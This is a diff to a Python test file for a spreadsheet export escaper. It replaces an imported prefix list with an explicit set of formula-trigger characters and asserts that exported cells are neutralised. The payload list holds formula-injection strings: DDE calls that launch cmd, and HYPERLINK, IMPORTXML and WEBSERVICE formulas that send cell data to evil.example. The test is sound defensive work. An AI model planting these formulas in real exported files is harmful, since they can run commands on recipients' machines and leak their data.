@@ -4,14 +4,15 @@ import codecs
 import csv
 import io
 
-from annotator.release.formats.spreadsheet import RUNS, for_excel
+from annotator.release.formats.spreadsheet import for_excel
 
 COMMANDS = (
     *("1+1", 'cmd|" /C calc"!A0', 'HYPERLINK("http://evil.example/?"&A1;"x")', "SUM(1;2)", "A1", 'DDE("a";"b";"c")'),
     *('IMPORTXML("http://evil.example","//a")', 'WEBSERVICE("http://evil.example")', "1;2\n=3", "“x”", "\u202e1+1"),
     *("2+5+cmd|' /C calc'!A0", "@SUM(1)", "", " ", "=1", "RAND()"),
 )
-PAYLOADS = [start + command for start in RUNS for command in COMMANDS][:100]
+STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+PAYLOADS = [start + command for start in STARTS for command in COMMANDS]
 
 
 def table(rows: list[list[str]], cut: int = 7) -> list[list[str]]:
@@ -26,8 +27,8 @@ def table(rows: list[list[str]], cut: int = 7) -> list[list[str]]:
 
 def test_no_cell_begins_with_what_runs():
     found = [row[0] for row in table([[payload, "x"] for payload in PAYLOADS])]
-    assert len(found) == 100
-    assert not [cell for cell in found if cell.startswith(RUNS)]
+    assert len(found) >= 100
+    assert not [cell for cell in found if cell.startswith(STARTS)]
     assert [cell.removeprefix("'") for cell in found] == PAYLOADS
 
 
